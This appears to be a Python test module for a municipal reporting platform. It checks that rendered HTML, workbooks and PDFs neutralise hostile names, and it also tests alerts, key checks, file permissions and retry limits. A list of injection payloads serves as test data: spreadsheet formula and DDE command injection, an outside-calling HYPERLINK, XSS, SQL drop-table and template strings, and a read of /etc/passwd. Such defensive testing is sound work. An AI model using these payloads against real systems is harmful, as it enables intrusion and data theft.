"""Trials of operation: names that would be code somewhere, alerts, environments, modes, and retries.

Belongs here: what is promised to whoever runs the platform. Does not belong here: faults of the machine (`kill`),
deliveries.
"""

from __future__ import annotations

import errno
import itertools
import os
import random
import re
import secrets
import shutil
import stat
import zipfile
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path
from typing import Any
from unittest import mock

from ingestion.bundled import MUNICIPALITIES, PROJECT
from ingestion.configuration.municipality import Municipality, load_municipality
from ingestion.privacy.keys import KEY_VARIABLE
from orchestration import home
from orchestration.settings import Settings, SettingsError
from trials.trial import Attempt, Break, Trial, part

HOSTILE = (
    '=HYPERLINK("http://x.example/?"&A1,"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; drop table marts.quality; --",
    '#eval("panic()") $x^2$ *fet* @ref',
    '#read("/etc/passwd")',
    "[klicka](javascript:alert(1))",
    "![bild](https://x.example/pixel.png)",
    "a | b | c",
    "{{ 7 * 7 }} {% raw %}",
    "</style><style>*{display:none}</style>",
    "&lt;b&gt; &amp; &#60;",
)
"""Names of units, departments and municipalities as somebody might type them."""


# ---- Names ----


def hostile_municipality(folder: Path) -> Municipality:
    """A municipality in `folder` whose board is called all of them together, its departments each one; written texts
    hold them too.
    """
    source = PROJECT / "municipalities" / "1489-alingsas"
    shutil.copytree(source, folder, dirs_exist_ok=True)
    written = "".join(f"{name}\n\n- punkt {name}\n\n" for name in HOSTILE)
    for text in folder.glob("texts/*/genomlysning/*.md"):
        text.write_text(f"{written}[a](javascript:alert(2)) <b onclick=x>fet</b>\n", encoding="utf-8")
    loaded, names = load_municipality(source), itertools.cycle(HOSTILE)
    departments = tuple(department.model_copy(update={"name": next(names)}) for department in loaded.departments)
    groups = loaded.comparison_groups
    assert groups.region is not None, "the demonstration's have one"
    groups = groups.model_copy(update={"region": groups.region.model_copy(update={"label": HOSTILE[0]})})
    reports = tuple(choice for choice in loaded.reports if choice.kind == "genomlysning")
    update = {
        "folder": folder,
        "name": HOSTILE[5],
        "board": " ¤ ".join(HOSTILE),
        "departments": departments,
        "reports": reports,
    }
    return loaded.model_copy(update={**update, "comparison_groups": groups})


def render_hostile(folder: Path) -> dict[str, Path]:
    """The small report with the names for members, indicators and files, and in what people wrote; its files by suffix."""
    from reports.render import render_reports
    from testkit import report_fixture

    changes, indicators, members = [], "marts.dim_indicator", "marts.dim_comparison_group_member"
    for place, name in enumerate(HOSTILE):
        literal = "'" + name.replace("'", "''") + "'"

        def nth(key: str, table: str, place: int = place) -> str:
            ranked = f"select {key}, row_number() over (order by {key}) % {len(HOSTILE)} as place from (select distinct {key} from {table})"
            return f"{key} in (select {key} from ({ranked}) where place = {place})"

        changes += [
            (
                f"update {indicators} set indicator = {literal} || ' ' || indicator_id, formula = {literal} "
                f"where {nth('indicator_id', indicators)}"
            ),
            f"update {members} set member = {literal} || member_id where member_id <> '1489' and {nth('member_id', members)}",
            f"update meta.loads set file = {literal} where {nth('load_id', 'meta.loads')}",
        ]
    for domain in ("volumes", "costs", "quality", "staffing"):  # a member is called the same wherever it stands
        changes.append(
            f"update marts.{domain} set municipality = of.member from (select distinct member_id, member from {members}) as of "
            f"where municipality_id = of.member_id and municipality_id <> '1489'"
        )
    publication = report_fixture.build(folder / "publication.duckdb", then=changes)
    [made] = render_reports(
        publication, hostile_municipality(folder / "1489-alingsas"), folder / "reports", kind="genomlysning"
    )
    return {path.suffix: path for path in made.paths}


def page_faults(path: Path) -> tuple[list[str], str]:
    """What of the page would run, load or lead elsewhere; and its text."""
    from lxml import html

    page = html.document_fromstring(path.read_text(encoding="utf-8"))
    faults = [f"{len(page.xpath('//script'))} scripts"] if len(page.xpath("//script")) != 2 else []
    faults += [f"an element {one.tag}" for one in page.xpath("//img|//iframe|//object|//embed|//base|//form")]
    faults += ["an attribute on…" for _ in page.xpath("//@*[starts-with(name(), 'on')]")]
    links = [str(link) for link in page.xpath("//@href|//@src|//@action")]
    faults += [f"a link {link[:40]}" for link in links if not link.startswith(("#", "https://", "http://", "mailto:"))]
    faults += ["a style sheet too many"] if len(page.xpath("//style")) != 1 + len(page.xpath("//svg//style")) else []
    return faults, _joined(page.body.text_content())


def workbook_faults(path: Path) -> tuple[list[str], str]:
    """What of the workbook would be computed or lead elsewhere; and its text."""
    import openpyxl

    faults = []
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            content = parts.read(name)
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >/]", content):
                faults.append(f"a formula in {name}")
            if name.endswith(".rels") and b'TargetMode="External"' in content:
                faults.append(f"an outside link in {name}")
            if any(part in name for part in ("externalLink", "vbaProject", "ddeLink")):
                faults.append(name)
    book = openpyxl.load_workbook(path, read_only=True)
    cells = [
        str(value)
        for sheet in book.worksheets
        for row in sheet.iter_rows(values_only=True)
        for value in row
        if value is not None
    ]
    # Only a cell that begins with the name could be taken for a formula.
    faults += [f"no cell begins with {name!r}" for name in HOSTILE if not any(cell.startswith(name) for cell in cells)]
    return faults, _joined("".join(cells))


def pdf_faults(path: Path) -> tuple[list[str], str]:
    """What of the PDF would run or lead elsewhere; and its text."""
    from pypdf import PdfReader

    reader, faults = PdfReader(path), []
    for page in reader.pages:
        for annotation in page.get("/Annots") or ():
            action = annotation.get_object().get("/A")
            target = str(action.get_object().get("/URI", "")) if action else ""
            if target and not target.startswith(("https://", "http://", "mailto:")):
                faults.append(f"a link {target[:40]}")
    root: Any = reader.trailer["/Root"]
    faults += [f"{key} of the document" for key in ("/OpenAction", "/AA", "/AcroForm") if key in root]
    return faults, _joined("".join(page.extract_text() for page in reader.pages))


def _joined(text: str) -> str:
    """Without spaces and hyphens: words of narrow columns are broken."""
    return re.sub(r"[\s-]+", "", text)


FORMATS: dict[str, Callable[[Path], tuple[list[str], str]]] = {
    ".html": page_faults,
    ".xlsx": workbook_faults,
    ".pdf": pdf_faults,
}


def names(folder: Path, share: float) -> Iterator[Attempt]:
    """Every hostile name in every format of one whole report (a share of it would not be quicker)."""
    rendered = render_hostile(folder)
    for suffix, look in FORMATS.items():
        faults, text = look(rendered[suffix])
        yield Attempt(f"{suffix}: nothing runs, computes or leads elsewhere", not faults, "; ".join(faults[:3]))
        for name in HOSTILE:
            yield Attempt(f"{suffix}: {name!r} is shown as it was written", _joined(name) in text)


# ---- Alerts ----


def alerts(folder: Path, share: float) -> Iterator[Attempt]:
    """Random sequences of failures and recoveries with receivers that fail now and then: each is told exactly once, in
    order.
    """
    from orchestration import alerts as module
    from orchestration.alerts import Alert, Alerts
    from trials.receivers import webhook

    rng = random.Random(4711)
    with mock.patch.object(module, "FIRST_WAIT", 0.0), webhook() as hook:
        for sequence in range(part(50, share)):
            environment = {
                "GENOMLYSNING_ENV": "live",
                "GENOMLYSNING_HOME": str(folder / str(sequence)),
                "GENOMLYSNING_ALERT_WEBHOOK_URL": hook.url,
                "GENOMLYSNING_ALERT_WEBHOOK_FORMAT": "json",
                "GENOMLYSNING_MUNICIPALITIES": str(MUNICIPALITIES),
            }
            settings = Settings.from_environment(environment)
            hook.received.clear()
            expected: list[tuple[str, str]] = []
            stands: set[str] = set()
            for _ in range(12):
                now = {key for key in "abcd" if rng.random() < 0.5}
                hook.statuses = [
                    rng.choice((429, 500, 503)) for _ in range(rng.choice((0, 0, 1, 2)))
                ]  # the third attempt gets through
                expected += sorted(("failure", key) for key in now - stands) + sorted(
                    ("recovery", key) for key in stands - now
                )
                stands = now
                Alerts(settings).tell("concerns", [Alert(key, f"late: {key}") for key in sorted(now)])
            told = [
                (body["state"], alert["key"])
                for body in hook.received
                for alert in sorted(body["alerts"], key=lambda a: str(a["key"]))
            ]
            yield Attempt(
                f"sequence {sequence}",
                told == expected,
                f"told {told}, expected {expected}" if told != expected else "",
            )


# ---- Environments ----

STAND_IN = "inprocess://demo.kolada.app/v3"


def _demo(folder: Path) -> Settings:
    return Settings("demo", folder, STAND_IN)


def _live(folder: Path) -> Settings:
    return Settings("live", folder, "https://api.kolada.se/v3")


def environments(folder: Path, share: float) -> Iterator[Attempt]:
    """Everything that live must not start with, and the starts that must succeed."""
    examples = [
        home.DEMONSTRATION_KEY,
        bytes(32),
        bytes(range(32)),
        b"k" * 32,
        b"replace-this-key-before-you-live",
        bytes.fromhex("c0ffee00" * 8),
    ]
    places = itertools.count()

    def fresh() -> Path:
        return folder / str(next(places))

    def start(settings: Settings, key: bytes | None = None) -> str:
        """'' if it starts; else what it says."""
        environment = {name: value for name, value in os.environ.items() if name != KEY_VARIABLE}
        with mock.patch.dict(os.environ, {**environment, **({KEY_VARIABLE: key.hex()} if key else {})}, clear=True):
            try:
                home.refuse(settings)
                home.key_of(settings)
            except SettingsError as error:
                return str(error)
        return ""

    def claimed(settings: Settings) -> Settings:
        home.claim(settings)
        return settings

    for _ in range(part(200, share)):
        said = start(claimed(_live(fresh())), secrets.token_bytes(32))
        yield Attempt("a live home with a drawn key", said == "", said)
    for key in examples:
        said = start(claimed(_live(fresh())), key)
        yield Attempt(
            f"live with the key {key[:4].hex()}…", "Live pseudonyms need a key" in said and key.hex() not in said, said
        )
    for first, other in ((_demo, _live), (_live, _demo)):
        here = fresh()
        claimed(first(here))
        said = start(other(here))
        yield Attempt(
            f"a home of {first(here).environment} opened by {other(here).environment}",
            "is a home of the environment" in said,
            said,
        )
        yield Attempt(f"a home of {first(here).environment} opened again", start(first(here)) == "")
    here = fresh()
    (here / "lake").mkdir(parents=True)
    (here / "demo").mkdir()
    said = start(_live(here))
    yield Attempt("an unmarked home of a demonstration opened by live", "holds demonstration data" in said, said)
    try:
        Settings("live", fresh(), STAND_IN)
        yield Attempt("live with the bundled Kolada", False, "it was allowed")
    except SettingsError as error:
        yield Attempt("live with the bundled Kolada", "the bundled demonstration snapshot" in str(error), str(error))
    for name, mode in itertools.product(
        ("lake", "build", "rejected", "keys", "dagster", "alerts"), (0o755, 0o750, 0o701, 0o704)
    ):
        settings = claimed(_live(fresh()))
        (settings.home / name).chmod(mode)
        said = start(settings, secrets.token_bytes(32))
        yield Attempt(f"live with {name} {mode:o}", f"chmod go= {settings.home / name}" in said, said)


# ---- Modes and retries ----


def modes(folder: Path, share: float) -> Iterator[Attempt]:
    """What a step makes, under every umask that a process may be started with."""
    masks = [0o000, 0o002, 0o022, 0o027, 0o077]
    for mask in masks[: part(len(masks), max(share, 0.2))]:
        settings = _demo(folder / f"{mask:o}")
        before = os.umask(mask)
        try:
            home.claim(settings)
            with home.private():
                (settings.lake / "made").mkdir()
                (settings.lake / "made" / "file").write_text("x")
                with home.readable(settings, settings.published):
                    (settings.published / "made").mkdir()
                    (settings.published / "made" / "file").write_text("x")
            home.key_of(settings)
        finally:
            os.umask(before)
        for path in settings.home.rglob("*"):
            mode, shared = stat.S_IMODE(path.stat().st_mode), path.is_relative_to(settings.published)
            wanted = (0o2750 if shared else 0o700) if path.is_dir() else (0o640 if shared else 0o600)
            yield Attempt(
                f"umask {mask:03o}: {path.relative_to(settings.home)}", mode == wanted, f"{mode:o}, expected {wanted:o}"
            )


def retries(folder: Path, share: float) -> Iterator[Attempt]:
    """A step that fails in every way: the transient ones are tried again up to the bound, the permanent ones never."""
    import dagster as dg

    from ingestion.kolada.client import KoladaPermanentError, KoladaTransientError
    from ingestion.lake import LakeBusy, LakeDamaged
    from orchestration import steps
    from orchestration.resources import Workspace
    from publication.publish import NotPublishable

    transient: list[Exception] = [KoladaTransientError("x"), OSError(errno.ESTALE, "x"), OSError(errno.ETIMEDOUT, "x")]
    permanent: list[Exception] = [
        KoladaPermanentError("x"),
        LakeBusy("x"),
        LakeDamaged("x"),
        NotPublishable("x"),
        SettingsError("x"),
        OSError(errno.ENOSPC, "x"),
        ValueError("x"),
    ]
    cases = [(error, times) for error in transient for times in (1, 3, 4, 9)] + [(error, 1) for error in permanent]
    workspace = Workspace(_demo(folder))
    for error, times in cases[:: max(1, round(1 / max(share, 0.2)))]:
        waiting, tried = [error] * times, [0]

        def work(context: Any, waiting: list[Exception] = waiting, tried: list[int] = tried) -> None:
            with steps.step(context, context.resources.workspace):
                tried[0] += 1
                if waiting:
                    raise waiting.pop()

        # As an op: an asset would read the annotations, which are texts in this module.
        made = dg.op(name="one", required_resource_keys={"workspace"}, ins={})(lambda context, work=work: work(context))
        job = dg.GraphDefinition(name="tried", node_defs=[made]).to_job(
            resource_defs={"workspace": dg.ResourceDefinition.hardcoded_resource(workspace)}
        )
        with mock.patch.object(steps, "FIRST_WAIT", 0.0):
            result = job.execute_in_process(raise_on_error=False)
        bound = 4 if error in transient else 1
        held = tried[0] == min(times + 1, bound) and result.success == (times < bound)
        yield Attempt(
            f"{type(error).__name__} {times} times", held, f"tried {tried[0]} times, success {result.success}"
        )


# ---- What is tried, and the guards taken away ----


@contextmanager
def _unescaped_pages() -> Iterator[None]:
    from jinja2 import Environment

    from reports import html

    def loose(*arguments: object, **options: object) -> Environment:
        return Environment(*arguments, **{**options, "autoescape": False})  # type: ignore[arg-type]  # noqa: S701 - the fault

    html._environment.cache_clear()
    try:
        with mock.patch.object(html, "Environment", loose):
            yield
    finally:
        html._environment.cache_clear()


def _texts_guessed() -> AbstractContextManager[object]:
    from reports import xlsx

    def guessed(sheet: xlsx._Sheet, column: int, text: str, look: object) -> None:
        sheet.sheet.write(sheet.row, column, text, look)

    guessing = {**xlsx.NOT_TEXT, "strings_to_formulas": True}
    both = mock.patch.multiple(xlsx, NOT_TEXT=guessing)
    return _together(both, mock.patch.object(xlsx._Sheet, "text", guessed))


def _any_link() -> AbstractContextManager[object]:
    from markdown_it import MarkdownIt

    from reports import markdown

    return _together(
        mock.patch.object(markdown, "_SCHEMES", ("",)), mock.patch.object(MarkdownIt, "validateLink", lambda *_: True)
    )


@contextmanager
def _together(*managers: AbstractContextManager[object]) -> Iterator[None]:
    with managers[0], managers[1]:
        yield


def _no_memory() -> AbstractContextManager[object]:
    from orchestration.alerts import Alerts

    @contextmanager
    def forgetting(_self: Alerts) -> Iterator[dict[str, object]]:
        yield {}

    return mock.patch.object(Alerts, "_memory", forgetting)


def _unbounded() -> AbstractContextManager[object]:
    from orchestration import steps

    return mock.patch.object(steps, "MOST_RETRIES", 8)


def _everything_passes() -> AbstractContextManager[object]:
    from orchestration import steps

    return mock.patch.object(steps, "is_transient", lambda _: True)


TRIALS = (
    Trial(
        "hostile names", "names that would be code somewhere are shown as they are written, in all three formats", names
    ),
    Trial("alerts", "each failure and each recovery is told exactly once, also by receivers that stumble", alerts),
    Trial(
        "environments",
        "live refuses demonstrations, example keys and open folders; nothing else is refused",
        environments,
    ),
    Trial("modes", "what is made is closed to others, whatever umask the process began with", modes),
    Trial("retries", "transient failures are retried up to the bound, permanent ones never", retries),
)
BREAKS = (
    Break("pages escape what they show", "hostile names", _unescaped_pages, 0.2),
    Break("workbooks write texts as texts", "hostile names", _texts_guessed, 0.1),
    Break("written links lead to pages and mail only", "hostile names", _any_link, 0.1),
    Break("alerts remember what they told", "alerts", _no_memory, 0.05),
    Break(
        "a home belongs to one environment",
        "environments",
        lambda: mock.patch.object(home, "refuse", lambda _: None),
        0.01,
    ),
    Break(
        "example keys are recognised",
        "environments",
        lambda: mock.patch.object(home, "guessable", lambda _: None),
        0.01,
    ),
    Break(
        "state that others can read stops live",
        "environments",
        lambda: mock.patch.object(home, "_refuse_open", lambda _: None),
        0.01,
    ),
    Break("steps make private files", "modes", lambda: mock.patch.object(home, "PRIVATE_MASK", 0o022), 0.2),
    Break("retries are bounded", "retries", _unbounded, 0.2),
    Break("permanent failures are not retried", "retries", _everything_passes, 0.2),
)
